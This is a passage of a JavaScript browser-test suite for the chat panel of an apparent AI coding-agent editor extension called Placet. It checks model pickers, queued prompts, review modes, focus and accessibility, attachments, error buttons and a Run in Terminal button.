  const call = (id, state) => tool('msg_2', id, 'edit', { input: {}, title: 'src/half.py', metadata: { said }, start: 1, end: 2, ...state });
  const { page, faults, close } = await opened({}, [
    ...scene().slice(0, -2),
    call('prt_1', { status: 'completed', attachments: [], output: 'Changed.' }),
    call('prt_2', { status: 'error', error: 'The user rejected this call and said: Not so loud' }),
  ]);
  const lists = await page.$$eval('.said', (all) => all.map((one) => one.innerText.split('\n')));
  const words = ['Your comment: Not so loud', 'Your comment on half.py: Add a test', 'Your comment on half.py, line 12: Use a <b>log</b>'];
  assert.deepEqual(lists, [words, words]);
  assert.deepEqual(await page.$$eval('.tool-error', (all) => all.map((one) => one.innerText).slice(-1)), ['You rejected this call.']);
  assert.deepEqual(await violations(page), []);
  assert.deepEqual(faults, []);
  await close();
});

test('commands that come and go are completed as they are then', async () => {
  const { page, close } = await opened();
  const listed = async () => {
    await page.fill('textarea', '/');
    await page.waitForSelector('#suggestions');
    await page.fill('textarea', '/odd');
    await settled(page);
    return page.$$eval('#suggestions .choice-label', (all) => all.map((one) => one.innerText));
  };
  assert.deepEqual(await listed(), []);
  await page.evaluate(() => {
    const commands = [{ name: 'odd:write', description: 'Write oddly', source: 'odd' }];
    const update = { kind: 'available_commands_update', commands };
    window.fakeHost.say({ type: 'events', events: [{ sessionId: 'ses_2', seq: 1, update }] });
  });
  assert.deepEqual(await listed(), ['/odd:write']);
  await close();
});

test("a subagent's work is opened as a conversation of its own, and left again", async () => {
  const { page, close } = await opened();
  await page.click('.tool-head:has-text("task")');
  await page.click('.subagent button:has-text("Open Session")');
  await page.waitForSelector('text=Session of the subagent');
  assert.equal(await page.locator('textarea').count(), 0);
  await page.waitForSelector('.prompt:has-text("Find other callers of greet")');
  assert.deepEqual(await violations(page), []);
  assert.ok((await said(page, 'session')).every((one) => one.sessionId === 'ses_1'));
  await page.click('[aria-label="Back to Session"]');
  await page.waitForSelector('.changes');
  await page.waitForSelector('textarea');
  await close();
});

test('context and cost are told in words, and a model that is not in the list can be named', async () => {
  const { page, close } = await opened();
  await page.focus('.meter');
  await page.keyboard.press('Enter');
  assert.match(await page.textContent('.details'), /Context52k of 200k tokensCost\$0\.042/);
  assert.deepEqual(await violations(page), []);
  await page.keyboard.press('Escape');
  await page.waitForSelector('.details', { state: 'detached' });
  await page.click('.chip-button.model');
  await page.waitForSelector('[role=combobox]:focus');
  await page.keyboard.type('other/model-9');
  await page.waitForSelector('[role=option]:has-text("not in the list")');
  await page.keyboard.press('Enter');
  assert.equal((await sent(page, 'agent/session/setModel'))[0].params.model, 'other/model-9');
  await close();
});

test('a subscription is named instead of a price, and favourites and recent models in the picker', async () => {
  const { page, close } = await opened();
  await page.evaluate(() => {
    const marked = { default: false, contextSize: 64_000, efforts: [] };
    const models = [
      { ...marked, id: 'chatgpt/gpt-5.5', favourite: true, subscription: true },
      { ...marked, id: 'acme/small', recent: true, inputPrice: 1, outputPrice: 2 },
    ];
    window.fakeHost.answers['agent/models'] = () => ({ models, total: 2 });
    window.fakeHost.say({ type: 'refresh' });
  });
  await page.click('.chip-button.model');
  await page.waitForSelector('[role=option]:has-text("favourite, 64k tokens, covered by the subscription")');
  await page.waitForSelector('[role=option]:has-text("recent, 64k tokens, $1 in, $2 out per million")');
  await page.keyboard.press('Escape');
  await close();
});

test('the cost of an answer that a subscription covers is named as covered', async () => {
  const { page, close } = await opened({}, [
    { kind: 'usage_update', messageId: 'msg_2', tokens: {}, cost: 0, contextUsed: 900, contextSize: 64_000, subscription: true },
  ]);
  await page.focus('.meter');
  await page.keyboard.press('Enter');
  assert.match(await page.textContent('.details'), /Costcovered by the subscription/);
  await close();
});

test('Alt with the arrows goes from prompt to prompt, and the same words are said each time anew', async () => {
  const { page, close } = await opened({}, longSession(30));
  await page.focus('textarea');
  const places = [];
  for (const key of ['ArrowUp', 'ArrowUp', 'ArrowUp', 'ArrowDown']) {
    await page.keyboard.press(`Alt+${key}`);
    await settled(page);
    places.push(await page.$$eval('.prompt', (all) => all.filter((one) => one.getBoundingClientRect().top >= 0).map((one) => one.textContent)));
  }
  for (const [index, number] of [29, 28, 27, 28].entries()) {
    assert.match(places[index].join(), new RegExp(`Prompt ${number}`));
  }
  assert.match(places[2][0], /Prompt 27/);
  const said = await page.evaluate(async () => {
    const seen = [];
    const live = document.querySelector('[aria-live=polite]');
    new MutationObserver(() => seen.push(live.textContent)).observe(live, { childList: true, subtree: true, characterData: true });
    for (const [index, turn] of ['msg_x', 'msg_y'].entries()) {
      window.fakeHost.push({ kind: 'turn_ended', turnId: turn, stopReason: 'end_turn' });
      for (let looks = 0; looks < 1000 && seen.filter((one) => one === 'Placet has answered.').length <= index; looks++) {
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    }
    return seen;
  });
  assert.equal(said.filter((one) => one === 'Placet has answered.').length, 2);
  await close();
});

test('the focus goes on in the prompt when what had it is gone, and is not taken from elsewhere', async () => {
  const { page, close } = await opened();
  await ask(page, permission());
  await page.focus('.ask button:text-is("Allow")');
  await page.keyboard.press('Enter');
  await ask(page);
  await page.waitForFunction(() => document.activeElement.tagName === 'TEXTAREA');
  await page.focus('.scroller');
  await ask(page, permission());
  await ask(page);
  await settled(page);
  assert.equal(await page.evaluate(() => document.activeElement.className), 'scroller');
  await close();
});

test('the first choice of going back has the focus, at a repeated wish for the same prompt too', async () => {
  const { page, close } = await opened();
  const first = '.way-back .answers button:text-is("Talk Alone"):focus';
  for (const again of ['.scroller', 'textarea', '.way-back']) {
    await page.evaluate(() => window.fakeHost.say({ type: 'goBack', sessionId: 'ses_1', messageId: 'msg_1' }));
    await page.waitForSelector(first);
    await page.focus(again);
  }
  await page.evaluate(() => window.fakeHost.say({ type: 'goBack', sessionId: 'ses_1', messageId: 'msg_1' }));
  await page.waitForSelector(first);
  await close();
});

test('what waits in another session is told, with the way to it', async () => {
  const { page, close } = await opened();
  const elsewhere = permission();
  await ask(page, { ...elsewhere, request: { ...elsewhere.request, sessionId: 'ses_2' } });
  await page.waitForSelector('.dock:has-text("Why is the build slow?")');
  assert.equal(await page.locator('.ask').count(), 0);
  await page.click('.dock button:has-text("Open Session")');
  await page.waitForSelector('.ask');
  await close();
});

test('a daemon that cannot be had is told with what can be done', async () => {
  const { page, close } = await openPage(browser, site);
  await page.evaluate(() => window.fakeHost.say({ type: 'status', status: { state: 'failed', running: [], waiting: 0, problem: 'Placet is not installed.' } }));
  await page.click('.dock [role=alert] button:has-text("Try Again")');
  assert.deepEqual((await sent(page, 'remedy')).map((one) => one.name), ['restart']);
  await close();
});

test('what waits for review is counted over the prompt, and the review mode stands below it, each with its way', async () => {
  const { page, close } = await opened();
  assert.equal(await page.locator('.chip-button.review').count(), 0);
  const say = (review) => page.evaluate((review) => window.fakeHost.say({ type: 'review', review }), review);
  await say({ sessionId: 'ses_1', mode: 'stage', files: 3, hunks: 4, others: [] });
  await page.waitForSelector('.dock [role=status]:has-text("4 hunks in 3 files to review")');
  await page.click('.dock button:has-text("Review")');
  assert.equal(await page.getAttribute('.chip-button.review', 'title'), 'Review mode: Collect changes for review');
  assert.deepEqual((await sent(page, 'remedy')).map((message) => message.name), ['review']);
  await page.click('.chip-button.review:has-text("Collect")');
  await page.keyboard.type('apply');
  await page.keyboard.press('Enter');
  assert.deepEqual((await sent(page, 'agent/session/setReview'))[0].params, { sessionId: 'ses_1', review: 'apply' });
  await say({ sessionId: 'ses_1', mode: 'apply', files: 0, hunks: 0, others: [] });
  await page.waitForSelector('.chip-button.review:has-text("Apply")');
  assert.equal(await page.locator('.dock button:has-text("Review")').count(), 0);
  await close();
});

test('a page whose session is not the session of the window counts its own changes, and takes no other review mode', async () => {
  const { page, close } = await opened();
  const others = [{ sessionId: 'ses_1', title: 'Rename greet to welcome', files: 2 }];
  const review = { sessionId: 'ses_2', mode: 'apply', files: 5, hunks: 9, others };
  await page.evaluate((review) => window.fakeHost.say({ type: 'review', review }), review);
  await page.waitForSelector('.dock [role=status]:has-text("2 files to review in")');
  assert.equal(await page.locator('.dock [role=status]').count(), 1);
  assert.equal(await page.locator('.chip-button.review').count(), 0);
  await close();
});

test('a page that gets the focus says so, so that the commands of the window apply to its session', async () => {
  const { page, close } = await opened();
  const focus = () => page.evaluate(() => window.dispatchEvent(new Event('focus')));
  const before = (await said(page, 'used')).length;
  await focus();
  assert.equal((await sent(page, 'used', before + 1)).at(-1).opening, 1);
  await page.evaluate(() => window.fakeHost.say({ type: 'opening', opening: 2 }));
  await focus();
  assert.equal((await sent(page, 'used', before + 2)).at(-1).opening, 2);
  await close();
});

test('the page in an editor tab has the background of an editor, and lines of readable length', async () => {
  const { page, close } = await openPage(browser, site, { place: 'editor', width: 1400, sessionId: 'ses_1' });
  const [background, width] = await page.evaluate(() => [
    getComputedStyle(document.body).backgroundColor,
    document.querySelector('#page').getBoundingClientRect().width,
  ]);
  const editor = await page.evaluate(() => {
    const probe = document.createElement('i');
    probe.style.color = 'var(--vscode-editor-background)';
    document.body.append(probe);
    return getComputedStyle(probe).color;
  });
  assert.equal(background, editor);
  assert.ok(width < 1000, `${width} pixels`);
  assert.deepEqual(await violations(page), []);
  await close();
});

test('a prompt of another client is a message at once, and waits in the queue as sent elsewhere', async () => {
  const { page, close } = await opened();
  await push(page, user('msg_9', 'From the other window'), { kind: 'turn_started', turnId: 'msg_9' });
  await page.waitForSelector('.row:has-text("From the other window")');
  await page.waitForSelector('[aria-label="Stop"]');
  await page.fill('textarea', 'Mine');
  await page.keyboard.press('Enter');
  await page.waitForSelector('.queued li:has-text("Next: Mine")');
  const prompts = [{ id: 'queued_1', text: 'Mine' }, { id: 'queued_2', text: 'Theirs' }];
  await push(page, { kind: 'queue_update', prompts });
  await page.waitForSelector('.queued li:has-text("Next, sent elsewhere: Theirs")');
  assert.equal(await page.locator('.queued li').count(), 2, 'its own prompt is there once');
  assert.equal(await page.locator('.queued li:has-text("Theirs") button').count(), 0);
  assert.deepEqual(await violations(page), []);
  await push(page, { kind: 'queue_update', prompts: [prompts[0]] });
  await page.waitForSelector('.queued li:has-text("Theirs")', { state: 'detached' });
  await close();
});

test('a page that opens a session later shows the prompts that wait, until the daemon is gone', async () => {
  const { page, close } = await openPage(browser, site);
  await page.evaluate(() => {
    const load = window.fakeHost.answers['agent/session/load'];
    window.fakeHost.answers['agent/session/load'] = (params) => ({ ...load(params), queued: [{ id: 'queued_1', text: '' }] });
    window.fakeHost.say({ type: 'open', sessionId: 'ses_1' });
  });
  await page.waitForSelector('.queued li:has-text("Next, sent elsewhere: Attached files")');
  await page.evaluate(() => window.fakeHost.say({ type: 'status', status: { state: 'starting', running: [], waiting: 0 } }));
  await page.waitForSelector('.queued li', { state: 'detached' });
  await close();
});

test('an image that is dropped goes along as data, and one too many bytes are refused', async () => {
  const { page, close } = await opened();
  await page.evaluate(() => {
    const data = new DataTransfer();
    data.items.add(new File([new Uint8Array([137, 80, 78, 71])], 'shot.png', { type: 'image/png' }));
    data.items.add(new File([new Uint8Array(6 * 1024 * 1024)], 'big.bin', { type: '' }));
    document.querySelector('.composer').dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
  });
  await page.waitForSelector('.composer .thumbnail', { state: 'attached' });
  assert.match(await page.textContent('.dock [role=alert]'), /big.bin is larger than 5 MiB/);
  await page.keyboard.press('Enter');
  const [prompt] = await sent(page, 'agent/prompt');
  assert.deepEqual(prompt.params.parts, [{ type: 'file', uri: 'data:image/png;base64,iVBORw==', mime: 'image/png', name: 'shot.png' }]);
  await close();
});

test('files that are dropped from the project are mentioned', async () => {
  const { page, close } = await opened();
  await page.evaluate(() => {
    const data = new DataTransfer();
    data.setData('text/uri-list', 'file:///home/ada/project/src/with%20space.py\r\nfile:///home/ada/project/a.py');
    document.querySelector('.composer').dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
  });
  await page.waitForFunction(() => document.querySelector('textarea').value !== '');
  assert.equal(await page.inputValue('textarea'), '@"src/with space.py" @a.py ');
  await close();
});

test('what a turn changed can be looked at and undone', async () => {
  const { page, close } = await opened();
  await page.click('.changes button:has-text("main.py")');
  await page.click('.changes button:has-text("Undo")');
  await sent(page, 'agent/undo');
  const [open] = await sent(page, 'openChange');
  assert.deepEqual([open.changeId, open.uri], ['chg_1', 'file:///home/ada/project/main.py']);
  assert.deepEqual((await sent(page, 'agent/undo'))[0].params, { sessionId: 'ses_1', turnId: 'msg_1' });
  await push(page, { kind: 'change_reverted', messageId: 'msg_2', changeId: 'chg_1' });
  await page.waitForSelector('.changes.reverted button:has-text("Redo")');
  await close();
});

test('sessions are found by what was said, opened, renamed and deleted by keys', async () => {
  const { page, close } = await opened();
  await page.focus('header .title');
  await page.keyboard.press('Enter');
  await page.keyboard.type('build');
  await page.waitForFunction(() => document.querySelectorAll('[role=option]').length === 1);
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('h1').textContent === 'Why is the build slow?');
  for (const command of ['/rename', '/delete']) {
    await page.fill('textarea', '');
    await page.focus('textarea');
    await page.keyboard.type(command);
    await page.keyboard.press('Enter');
    await sent(page, `agent/session/${command.slice(1)}`);
  }
  await page.waitForFunction(() => document.querySelector('h1').textContent === 'New session');
  await close();
});

test('each choice is made below the prompt: for the next session before there is one, for the session afterwards', async () => {
  const { page, close } = await openPage(browser, site);
  await page.evaluate(() => window.fakeHost.say({ type: 'review', review: { mode: 'stage', files: 0, hunks: 0, others: [] } }));
  const choose = async (kind, words) => {
    await page.click(`.chip-button.${kind}`);
    await page.keyboard.type(words);
    await page.keyboard.press('Enter');
  };
  await choose('model', 'small');
  await page.waitForSelector('.chip-button.model:has-text("small")');
  assert.equal(await page.locator('.chip-button.effort').count(), 0, 'the model has no levels');
  await choose('model', 'large');
  await choose('effort', 'High');
  await page.waitForSelector('.chip-button.effort:has-text("High")');
  assert.deepEqual(
    (await said(page, 'prefer')).map(({ preferred }) => preferred),
    [{ model: 'acme/small', over: 'acme/large' }, { model: 'acme/large', over: 'acme/large' }, { effort: 'high' }],
  );
  await choose('caution', 'every act');
  await page.waitForSelector('.chip-button.caution:has-text("Careful")');
  await choose('review', 'apply');
  await page.fill('textarea', 'Go');
  await page.keyboard.press('Enter');
  await sent(page, 'agent/prompt');
  assert.deepEqual((await sent(page, 'agent/session/setCaution'))[0].params, { sessionId: 'ses_1', caution: 'more' });
  assert.deepEqual((await sent(page, 'agent/session/setReview'))[0].params, { sessionId: 'ses_1', review: 'apply' });
  await choose('effort', 'Low');
  assert.deepEqual((await sent(page, 'agent/session/setEffort'))[0].params, { sessionId: 'ses_1', effort: 'low' });
  await choose('effort', 'Default');
  assert.deepEqual((await sent(page, 'agent/session/setEffort', 2))[1].params, { sessionId: 'ses_1', effort: null });
  await close();
});

test('a choice of another client is on the buttons at once', async () => {
  const { page, close } = await opened();
  await push(page, { kind: 'effort_update', effort: 'medium' }, { kind: 'caution_update', caution: 'less' });
  await page.waitForSelector('.chip-button.effort:has-text("Medium")');
  await page.waitForSelector('.chip-button.caution:has-text("Relaxed")');
  await push(page, { kind: 'current_mode_update', agent: 'build', model: 'acme/small' });
  await page.waitForSelector('.chip-button.model:has-text("small")');
  await close();
});

for (const width of [200, 300, 420]) {
  test(`nothing of the composer is cut off at ${width} pixels: the names, Send, Stop, and the placeholder on one line`, async () => {
    const { page, close } = await opened({ width });
    await page.evaluate(() => window.fakeHost.say({ type: 'review', review: { sessionId: 'ses_1', mode: 'stage', files: 0, hunks: 0, others: [] } }));
    await push(page, { kind: 'effort_update', effort: 'medium' }, { kind: 'caution_update', caution: 'more' });
    const cut = () =>
      page.evaluate(() => {
        const box = document.querySelector('.composer').getBoundingClientRect();
        const isOut = (one) => {
          const { left, right, top, bottom, width } = one.getBoundingClientRect();
          return left < box.left || right > box.right + 0.5 || top < box.top || bottom > box.bottom || width === 0;
        };
        const buttons = [...document.querySelectorAll('.toolbar button')].filter((one) => isOut(one) || [...one.querySelectorAll('.word')].some((word) => word.scrollWidth > word.clientWidth + 1));
        return [...buttons.map((one) => one.textContent), ...(document.documentElement.scrollWidth > innerWidth ? ['the page'] : [])];
      });
    await settled(page);
    assert.deepEqual(await cut(), []);
    assert.ok((await page.locator('textarea').boundingBox()).height < 40);
    await push(page, user('msg_9', 'And?'), { kind: 'turn_started', turnId: 'msg_9' }, answer('msg_10', 'msg_9'));
    await page.fill('textarea', 'Also this');
    await page.waitForSelector('[aria-label="Stop"]');
    await settled(page);
    assert.deepEqual(await cut(), []);
    await close();
  });
}

test('a code block has one background, and no count of zero stands below the changes', async () => {
  const { page, close } = await opened();
  assert.equal(await page.evaluate(() => getComputedStyle(document.querySelector('pre code')).backgroundColor), 'rgba(0, 0, 0, 0)');
  assert.match(await page.textContent('.changes'), /1 problem fixed$/);
  await close();
});

test('in high contrast the main button is filled, and the second is not', async () => {
  const { page, close } = await opened({ theme: 'contrast' });
  await ask(page, permission());
  const colours = await page.evaluate(() => ['.round:not(.plain)', '.answers .secondary'].map((one) => getComputedStyle(document.querySelector(one)).backgroundColor));
  assert.equal(colours[0], 'rgb(255, 255, 255)');
  assert.notEqual(colours[1], colours[0]);
  await page.hover('.answers button.primary');
  const hovered = await page.evaluate(() => {
    const { color, backgroundColor } = getComputedStyle(document.querySelector('.answers button.primary:hover'));
    return [color, backgroundColor];
  });
  assert.deepEqual(hovered, ['rgb(0, 0, 0)', 'rgb(255, 255, 255)'], 'and can be read under the mouse');
  await close();
});

test('without a model a card shows the ways to a model, with a server on this computer in front', async () => {
  const { page, close } = await openPage(browser, site, { width: 300 });
  const say = (login, models) => page.evaluate(([login, models]) => {
    window.fakeHost.login = login;
    window.fakeHost.answers['agent/models'] = () => ({ models, total: models.length });
    window.fakeHost.say({ type: 'refresh' });
  }, [login, models]);
  const builtIn = { id: 'builtin/rules', default: true };
  await say({ id: 'builtin/rules', key: 'not_needed', variables: [] }, [builtIn]);
  await page.evaluate(() => {
    window.fakeHost.localModel = { id: 'local/small', title: 'Small', bytes: 1117320768, license: 'Apache-2.0', command: 'placet models pull small', text: '' };
    window.fakeHost.say({ type: 'refresh' });
  });
  await page.waitForSelector('.no-model:has-text("In a terminal: placet models pull small (1.1 GB, Apache-2.0). It answers questions")');
  assert.deepEqual(await violations(page), []);
  await page.click('.no-model button.primary:has-text("Sign In to Provider…")');
  await say({ id: 'builtin/rules', key: 'not_needed', variables: [] }, [builtIn, { id: 'ollama_chat/qwen', default: false, server: 'Ollama at http://127.0.0.1:11434' }]);
  await page.waitForSelector('.no-model:has-text("Found: Ollama")');
  assert.deepEqual(await violations(page), []);
  await page.click('.no-model button.primary:has-text("Use Local Model…")');
  assert.deepEqual((await sent(page, 'remedy', 2)).map(({ name }) => name), ['signIn', 'chooseModel']);
  await say({ id: 'acme/large', key: 'missing', variables: ['ACME_API_KEY'] }, [{ id: 'acme/large', default: true }]);
  await page.waitForSelector('.no-model:has-text("The key for acme/large is missing.")');
  await say({ id: 'acme/large', key: 'keyring', variables: [] }, [{ id: 'acme/large', default: true }]);
  await page.waitForSelector('.no-model', { state: 'detached' });
  await close();
});

test('an error carries the button that helps', async () => {
  const failed = (code) => [user('msg_1', 'Go'), { kind: 'turn_started', turnId: 'msg_1' }, { kind: 'turn_ended', turnId: 'msg_1', stopReason: 'error', error: { code, message: 'It failed.', hint: '' } }];
  const rejected = await opened({}, failed('authentication'));
  await rejected.page.click('.note.error button:has-text("Enter Another Key…")');
  assert.deepEqual((await sent(rejected.page, 'remedy'))[0], { type: 'remedy', name: 'signIn', argument: 'acme' });
  await rejected.close();

  const limited = await opened({ fresh: true }, failed('rate_limit'));
  await limited.page.clock.install();
  await limited.page.click('.note.error button:has-text("Wait and Retry")');
  await limited.page.waitForSelector('.note.error button:has-text("Retrying in 30 s. Cancel")');
  for (let second = 0; second < 31; second++) await limited.page.clock.runFor(1000);
  assert.deepEqual((await sent(limited.page, 'agent/prompt'))[0].params.parts, [{ type: 'text', text: 'Go' }]);
  await limited.close();

  const missing = await opened({}, failed('not_found'));
  await missing.page.click('.note.error button:has-text("Select Model…")');
  await missing.close();
});

test('a daemon that is not there has the button to install, and the box goes once there is one', async () => {
  const { page, close } = await openPage(browser, site);
  const say = (status) => page.evaluate((status) => window.fakeHost.say({ type: 'status', status: { running: [], waiting: 0, ...status } }), status);
  await say({ state: 'failed', problem: 'Placet was not found.', remedy: 'install' });
  await page.click('.dock [role=alert] button.primary:has-text("Install…")');
  await say({ state: 'failed', problem: 'Trust this folder.', remedy: 'trust' });
  await page.click('.dock [role=alert] button.primary:has-text("Manage Trust")');
  assert.deepEqual((await sent(page, 'remedy', 2)).map(({ name }) => name), ['install', 'manageTrust']);
  await say({ state: 'ready' });
  await page.waitForSelector('.dock [role=alert]', { state: 'detached' });
  await close();
});

test('the selection of the editor goes along unless it is taken off, and the current file is offered', async () => {
  const { page, close } = await openPage(browser, site);
  const uri = 'file:///home/ada/project/src/hello.py';
  const say = (file) => page.evaluate((file) => window.fakeHost.say({ type: 'editor', file }), file);
  const prompt = async (words, count) => {
    await page.fill('textarea', words);
    await page.keyboard.press('Enter');
    return (await sent(page, 'agent/prompt', count)).at(-1).params.parts.slice(1);
  };
  const selected = { type: 'file', uri, name: 'src/hello.py', range: { start: 3, end: 5 } };
  await say(selected);
  await page.waitForSelector('.chip:has-text("src/hello.py:3-5")');
  assert.deepEqual(await prompt('What is this?', 1), [selected]);
  await page.click('[aria-label="Remove src/hello.py:3-5"]');
  assert.deepEqual(await prompt('And that?', 2), []);
  await say({ ...selected, range: { start: 7, end: 7 } });
  await page.waitForSelector('.chip:has-text("src/hello.py:7-7")');
  await say({ type: 'file', uri, name: 'src/hello.py' });
  assert.deepEqual(await prompt('Nothing', 3), []);
  await page.click('.chip.offered:has-text("src/hello.py")');
  assert.deepEqual(await prompt('With it', 4), [{ type: 'file', uri, name: 'src/hello.py' }]);
  assert.deepEqual(await violations(page), []);
  await close();
});

test('context is added from elsewhere, and what is not there is said', async () => {
  const { page, close } = await openPage(browser, site);
  await page.evaluate(() => {
    window.fakeHost.answers['host/context'] = ({ kind }) => {
      if (kind === 'terminalSelection') throw new Error('Select text in a terminal first.');
      return [kind === 'problems' ? { type: 'diagnostics' } : { type: 'file', uri: 'data:text/plain;base64,', mime: 'text/plain', name: 'git diff' }];
    };
  });
  const add = async (name) => {
    await page.click('[aria-label="Add Context…"]');
    await page.keyboard.type(name);
    await page.keyboard.press('Enter');
  };
  await add('Git');
  await page.waitForSelector('.chip:has-text("git diff")');
  await add('Problems');
  await page.waitForSelector('.chip:has-text("Problems")');
  await add('Terminal Sel');
  await page.waitForSelector('.dock [role=alert]:has-text("Select text in a terminal first.")');
  await add('Files and Folders');
  await page.waitForSelector('#suggestions');
  await close();
});

test('Stop stops the queue too, and puts the queued prompts back into the input box', async () => {
  const { page, close } = await busy();
  for (const words of ['the tests', 'the docs']) {
    await page.fill('textarea', words);
    await page.keyboard.press('Enter');
  }
  await page.waitForSelector('.queued li:nth-child(2)');
  await page.click('[aria-label="Stop"]');
  assert.equal((await sent(page, 'cancel', 2)).length, 2);
  assert.equal((await sent(page, 'agent/cancel')).length, 1);
  assert.equal(await page.inputValue('textarea'), 'the tests\n\nthe docs');
  assert.equal(await page.locator('.queued').count(), 0);
  await close();
});

test('code for a shell has a button to the terminal, and looks of one kind fold to one row', async () => {
  const ran = { status: 'completed', attachments: [], start: 1000, end: 1001, input: {}, output: 'x', metadata: {} };
  const reads = Array.from({ length: 30 }, (_, index) => tool('msg_2', `prt_r${index}`, 'read', { ...ran, title: `src/file${index}.py` }));
  const code = '```bash\nmake test\n```\n\n```python\nx = 1\n```';
  const { page, close } = await opened({}, [user('msg_1', 'Go'), answer('msg_2', 'msg_1'), ...reads, text('msg_2', 'prt_code', 0, code), { kind: 'turn_ended', turnId: 'msg_1', stopReason: 'end_turn' }]);
  await page.click('.tool-head:has-text("Read 30 files")');
  await page.waitForSelector('.calls-row .tool:nth-child(30):has-text("src/file29.py")');
  assert.deepEqual(await violations(page), []);
  await page.click('.tool-head:has-text("Read 30 files")');
  await page.click('button:has-text("Run in Terminal")');
  assert.deepEqual((await sent(page, 'runInTerminal'))[0], { type: 'runInTerminal', text: 'make test\n' });
  assert.equal(await page.locator('button:has-text("Run in Terminal")').count(), 1);
  await close();
});
